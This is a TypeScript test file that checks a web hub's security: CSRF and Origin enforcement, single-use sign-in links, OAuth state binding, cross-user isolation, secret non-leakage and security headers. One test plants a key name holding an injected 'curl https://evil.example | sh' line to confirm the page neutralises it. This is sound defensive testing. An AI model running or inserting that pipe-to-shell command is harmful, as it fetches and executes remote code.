/**
 * The hub's security properties, through HTTP: session cookies never authenticate the API, CSRF tokens and
 * Origin are enforced, OAuth state is bound to the session and single-use, sign-in links work once and
 * expire, other users' posts are 404, platform tokens and full keys never leak, and the headers are set.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { apiKeys, deliveries, sandboxGrants, sandboxTokens, hubSessions } from "../../db/schema";
import { createApp } from "../../src/app";
import { createLoginLink } from "../../src/hub/login-links";
import { createHubTest, type HubTest } from "./hub-client";

let t: HubTest;
beforeAll(async () => {
  t = await createHubTest();
});
afterAll(() => t.h.close());

describe("sessions and the API", () => {
  it("sends a signed-out visitor to sign in, and a signed-in one to the keys page", async () => {
    const anonymous = t.browser();
    for (const path of ["/hub", "/hub/keys", "/hub/accounts", "/hub/posts", "/hub/start"]) {
      const res = await anonymous.request(path);
      expect([res.status, res.headers.get("location")], path).toEqual([303, "/hub/signin"]);
    }
    expect((await anonymous.post("/hub/keys", { name: "x" })).res.status).toBe(401);
    const { b } = await t.signedIn();
    expect((await b.request("/hub")).headers.get("location")).toBe("/hub/keys");
    const missing = await b.page("/hub/nothing-here");
    expect(missing.res.status).toBe(404);
    expect(missing.res.headers.get("content-type")).toMatch(/text\/html/);
  });

  it("the API refuses a request that carries only a hub session cookie", async () => {
    const { b } = await t.signedIn();
    const res = await b.request("/api/v1/social/accounts");
    expect(res.status).toBe(401);
    expect(((await res.json()) as any).error.code).toBe("UNAUTHORIZED");
  });

  it("sets the session cookie HttpOnly and SameSite=Lax, and sign-out ends the session on the server", async () => {
    const user = await t.h.createUser();
    const link = await createLoginLink(t.h.services, user.userId);
    const b = t.browser();
    const { res } = await b.post("/hub/login", { token: new URL(link).searchParams.get("token")! }, { csrf: null });
    const cookie = res.headers.getSetCookie().find((c) => c.startsWith("hub_session="))!;
    expect(cookie).toMatch(/HttpOnly/);
    expect(cookie).toMatch(/SameSite=Lax/);
    expect(cookie).toMatch(/Max-Age=\d+/);
    expect(cookie).not.toMatch(/Secure/);
    await b.refreshCsrf();
    const stolen = new Map(b.cookies);
    const out = await b.post("/hub/logout", {});
    expect([out.res.status, out.res.headers.get("location")]).toEqual([303, "/hub/signin?signed-out"]);
    expect(await t.h.db.select().from(hubSessions).where(eq(hubSessions.userId, user.userId))).toEqual([]);
    const replay = t.browser();
    for (const [k, v] of stolen) replay.cookies.set(k, v);
    const page = await replay.request("/hub/keys");
    expect(page.status).toBe(303);
    expect(page.headers.get("location")).toBe("/hub/signin");
  });

  it("over HTTPS the cookie is Secure and __Host- prefixed", async () => {
    // The same services behind an https PUBLIC_BASE_URL (no second database needed).
    const services = { ...t.h.services, config: { ...t.h.services.config, publicBaseUrl: "https://hub.example.test" } };
    const app = createApp(services);
    const user = await t.h.createUser();
    const link = await createLoginLink(services, user.userId);
    const res = await app.request("https://hub.example.test/hub/login", {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded", origin: "https://hub.example.test" },
      body: new URLSearchParams({ token: new URL(link).searchParams.get("token")! }),
    });
    expect(res.status).toBe(303);
    const cookie = res.headers.getSetCookie().find((c) => c.includes("hub_session="))!;
    expect(cookie).toMatch(/^__Host-hub_session=/);
    expect(cookie).toMatch(/Secure/);
    expect(cookie).toMatch(/Path=\//);
  });
});

describe("webhook pages", () => {
  it("a message waiting for its disabled endpoint says it goes out once the endpoint is enabled", async () => {
    const { b, apiKey } = await t.signedIn();
    const call = (method: string, path: string, body?: unknown) =>
      t.h.app.request(`/api/v1/webhooks${path}`, {
        method,
        headers: body === undefined ? t.h.auth(apiKey) : t.h.json(apiKey),
        body: body === undefined ? undefined : JSON.stringify(body),
      });
    const ep = ((await (await call("POST", "", { url: "https://orders.example.com/hooks" })).json()) as { data: { id: string } }).data;
    expect((await call("POST", `/${ep.id}/test`)).status).toBe(202);
    expect((await call("PATCH", `/${ep.id}`, { enabled: false })).status).toBe(200);
    const { html } = await b.page(`/hub/webhooks/${ep.id}`);
    expect(html).toContain('data-label="Next attempt">when the endpoint is enabled<');
  });

  it("a description with a control character is refused on the page, as the API refuses it", async () => {
    const { b } = await t.signedIn();
    const { res, html } = await b.submit("/hub/webhooks", { url: "https://orders.example.com/flow-7", which: "all", description: "Orders\u0007 new" });
    expect(res.status).toBe(200);
    expect(html).toContain("must not contain control characters");
    expect((await b.page("/hub/webhooks")).html).not.toContain("https://orders.example.com/flow-7");
  });
});

describe("CSRF", () => {
  it("refuses a state-changing form without the token, with a wrong token, or from another origin", async () => {
    const { b } = await t.signedIn();
    const missing = await b.post("/hub/keys", { name: "x" }, { csrf: null });
    expect(missing.res.status).toBe(403);
    const wrong = await b.post("/hub/keys", { name: "x" }, { csrf: "A".repeat(32) });
    expect(wrong.res.status).toBe(403);
    const foreign = await b.post("/hub/keys", { name: "x" }, { origin: "https://evil.example" });
    expect(foreign.res.status).toBe(403);
    const other = await t.signedIn();
    const crossSession = await b.post("/hub/keys", { name: "x" }, { csrf: other.b.csrf });
    expect(crossSession.res.status).toBe(403);
    const { html } = await b.page("/hub/keys");
    expect(html.match(/data-label="Name">/g)).toHaveLength(1);
    expect(html).not.toContain(">x<");
    expect((await b.post("/hub/keys", { name: "ok" })).res.status).toBe(303);
  });

  it("refuses a sign-in form posted from another origin or without an Origin header", async () => {
    const user = await t.h.createUser();
    const token = new URL(await createLoginLink(t.h.services, user.userId)).searchParams.get("token")!;
    expect((await t.browser().post("/hub/login", { token }, { csrf: null, origin: "https://evil.example" })).res.status).toBe(403);
    expect((await t.browser().post("/hub/login", { token }, { csrf: null, origin: null })).res.status).toBe(403);
    expect((await t.browser().post("/hub/login", { token }, { csrf: null })).res.status).toBe(303);
  });
});

describe("sign-in links", () => {
  it("work once", async () => {
    const user = await t.h.createUser();
    const token = new URL(await createLoginLink(t.h.services, user.userId)).searchParams.get("token")!;
    const first = t.browser();
    expect((await first.post("/hub/login", { token }, { csrf: null })).res.status).toBe(303);
    const second = await t.browser().post("/hub/login", { token }, { csrf: null });
    expect(second.res.status).toBe(400);
    expect(second.html).toContain("used already");
    expect((await t.browser().post("/hub/login", { token: "nonsense" }, { csrf: null })).res.status).toBe(400);
  });

  it("name the account they sign in to, and warn a signed-in user of another account that it will be signed out", async () => {
    const victim = await t.signedIn();
    const other = await t.h.createUser();
    const token = new URL(await createLoginLink(t.h.services, other.userId)).searchParams.get("token")!;
    const page = await victim.b.page(`/hub/login?token=${token}`);
    expect(page.res.status).toBe(200);
    expect(page.html).toContain(`signs you in to the hub as <strong>${other.email}</strong>`);
    expect(page.html).toContain(`You are signed in as <strong>${victim.email}</strong>`);
    expect(page.html).toContain(`Sign out and sign in as ${other.email}`);
    // Looking did not use the link; the user's own link asks nothing more.
    const own = new URL(await createLoginLink(t.h.services, victim.userId)).searchParams.get("token")!;
    const ownPage = await victim.b.page(`/hub/login?token=${own}`);
    expect(ownPage.html).toContain(`as <strong>${victim.email}</strong>`);
    expect(ownPage.html).not.toContain("You are signed in as");
    expect((await t.browser().post("/hub/login", { token }, { csrf: null })).res.status).toBe(303);
    // A link that cannot sign in says so on its page, before any button.
    const used = await t.browser().page(`/hub/login?token=${token}`);
    expect(used.res.status).toBe(400);
    expect(used.html).toContain("used already");
  });

  it("expire after 15 minutes", async () => {
    const user = await t.h.createUser();
    const token = new URL(await createLoginLink(t.h.services, user.userId)).searchParams.get("token")!;
    const clock = t.h.services.clock;
    const real = clock.now;
    clock.now = () => new Date(Date.now() + 16 * 60_000);
    try {
      expect((await t.browser().post("/hub/login", { token }, { csrf: null })).res.status).toBe(400);
    } finally {
      clock.now = real;
    }
  });
});

describe("platform OAuth state", () => {
  it("refuses a callback with a wrong state, another session's state, or a state used before", async () => {
    const a = await t.signedIn();
    const start = await a.b.post("/hub/accounts/connect", {});
    expect(start.res.status).toBe(303);
    const dialog = new URL(start.res.headers.get("location")!);
    const state = dialog.searchParams.get("state")!;
    const code = "sandbox-code-00";
    const wrong = await a.b.follow(await a.b.page(`/hub/accounts/callback?state=${state}x&code=${code}`));
    expect(wrong.hops).toEqual([{ status: 303, location: "/hub/accounts" }]);
    expect(wrong.html).toContain("nothing was connected");

    const b = await t.signedIn();
    const started = await b.b.post("/hub/accounts/connect", {});
    const stateOfB = new URL(started.res.headers.get("location")!).searchParams.get("state")!;
    const stolen = await a.b.follow(await a.b.page(`/hub/accounts/callback?state=${stateOfB}&code=${code}`));
    expect(stolen.hops).toEqual([{ status: 303, location: "/hub/accounts" }]);
    expect(stolen.html).toContain("another session");

    const ok = await a.b.connectSandbox(["1010000000000003"]);
    expect(ok.res.status).toBe(200);
    expect(ok.html).toContain("Connected: Sandbox Garage.");
    const replayed = await a.b.follow(await a.b.page(ok.callback));
    expect(replayed.html).toContain('class="flash error"');
    expect(replayed.html).not.toContain("Connected:");
  });
});

describe("isolation and secrecy", () => {
  it("another user's post page is 404, and cancelling it is refused", async () => {
    const owner = await t.signedIn();
    await owner.b.connectSandbox(["1010000000000003"]);
    const created = await t.h.app.request("/api/v1/social/posts", {
      method: "POST",
      headers: t.h.json(owner.apiKey, { "Idempotency-Key": crypto.randomUUID() }),
      body: JSON.stringify({ accountIds: ["pageplatform:1010000000000003"], caption: "mine", scheduledFor: new Date(Date.now() + 86_400_000).toISOString() }),
    });
    expect(created.status).toBe(201);
    const id = ((await created.json()) as any).data.id;
    expect((await owner.b.page(`/hub/posts/${id}`)).res.status).toBe(200);
    const intruder = await t.signedIn();
    const page = await intruder.b.page(`/hub/posts/${id}`);
    expect(page.res.status).toBe(404);
    expect(page.html).not.toContain("mine");
    expect((await intruder.b.post(`/hub/posts/${id}/cancel`, { confirm: "yes" })).res.status).toBe(404);
    expect((await intruder.b.page(`/hub/posts/${id}/cancel`)).res.status).toBe(404);
    expect((await owner.b.page(`/hub/posts/${id}`)).html).toContain("Cancel post");

    // Once a target's last attempt got no answer, the post may be live there: the question says so.
    await t.h.db
      .update(deliveries)
      .set({
        status: "failed",
        ambiguous: true,
        attempts: 1,
        nextAttemptAt: new Date(Date.now() + 60_000),
        errorCode: "OUTCOME_UNKNOWN",
        errorMessage: "no answer",
      })
      .where(eq(deliveries.postId, id));
    const question = await owner.b.page(`/hub/posts/${id}/cancel`);
    expect(question.res.status).toBe(200);
    expect(question.html).toContain("may already be live there; cancelling stops further attempts but does not remove it");
  });

  it("the start page's shell step holds a stored key name's line breaks as spaces (names from before the check)", async () => {
    const { b, userId } = await t.signedIn();
    await b.submit("/hub/keys", { name: "placeholder" });
    await t.h.db.update(apiKeys).set({ name: 'x"\ncurl https://evil.example | sh\n#' }).where(eq(apiKeys.userId, userId));
    const { html } = await b.page("/hub/start");
    expect(html).toContain("you created &quot;x&quot; curl https://evil.example | sh #&quot;");
    expect(html).not.toContain("\ncurl https://evil.example");
  });

  it("platform tokens and full API keys (after their first showing) never appear in pages, API answers or logs", async () => {
    const { b, apiKey } = await t.signedIn();
    await b.connectSandbox();
    const created = await b.submit("/hub/keys", { name: "shown once" });
    const fullKey = /id="new-key-value">(sk_[0-9A-Za-z]+)</.exec(created.html)![1]!;
    const afterShowing = b.bodies.length;
    for (const path of ["/hub/keys", "/hub/accounts", "/hub/posts", "/hub/start", "/hub/signin"]) await b.page(path);
    const api: string[] = [];
    for (const path of ["/api/v1/social/accounts", "/api/v1/social/posts"])
      api.push(await (await t.h.app.request(path, { headers: t.h.auth(fullKey) })).text());
    api.push(await (await t.h.app.request("/api/v1/social/accounts", { headers: t.h.auth(apiKey) })).text());

    const secrets = [
      ...(await t.h.db.select({ v: sandboxTokens.token }).from(sandboxTokens)).map((r) => r.v),
      ...(await t.h.db.select({ v: sandboxGrants.value }).from(sandboxGrants)).map((r) => r.v),
    ];
    expect(secrets.filter((s) => s.startsWith("sandbox-pageplatform-")).length).toBeGreaterThan(0);
    const shown = [...b.bodies.slice(0, afterShowing - 1), ...b.bodies.slice(afterShowing), ...api, ...t.logLines].join("\n");
    expect(shown).toContain("photoplatform:1780000000000001");
    for (const secret of [...secrets, fullKey, apiKey]) expect(shown).not.toContain(secret);
  });

  it("sets CSP with a nonce and frame-ancestors 'none', X-Frame-Options, Referrer-Policy and no-store on hub pages", async () => {
    const { b } = await t.signedIn();
    for (const path of ["/hub/signin", "/hub/keys", "/hub/accounts", "/hub/posts", "/hub/start"]) {
      const res = await b.request(path);
      const csp = res.headers.get("content-security-policy") ?? "";
      expect(csp, path).toMatch(/frame-ancestors 'none'/);
      expect(csp, path).toMatch(/script-src 'nonce-[A-Za-z0-9+/=_-]+'/);
      expect(csp, path).not.toMatch(/unsafe-inline/);
      expect(res.headers.get("x-frame-options"), path).toBe("DENY");
      expect(res.headers.get("referrer-policy"), path).toBe("same-origin");
      expect(res.headers.get("cache-control"), path).toBe("no-store");
    }
    expect((await b.request("/hub/posts")).headers.get("content-security-policy")).toMatch(/img-src 'self' data:;/);
    // With media in a bucket, post thumbnails come from its public URL, and from nowhere else.
    const s3 = {
      endpoint: "http://127.0.0.1:9",
      region: "auto",
      bucket: "m",
      accessKeyId: "a",
      secretAccessKey: "s",
      publicBaseUrl: "https://media.example.test/shop",
    };
    const bucketApp = createApp({ ...t.h.services, config: { ...t.h.services.config, s3 } });
    const csp = (await bucketApp.request("/hub/signin")).headers.get("content-security-policy")!;
    expect(csp).toMatch(/img-src 'self' data: https:\/\/media\.example\.test;/);
    // The API reference is /docs, the service's own script-free page; the hub's old address sends there.
    const reference = await b.request("/hub/reference");
    expect([reference.status, reference.headers.get("location")]).toEqual([301, "/docs"]);
  });
});
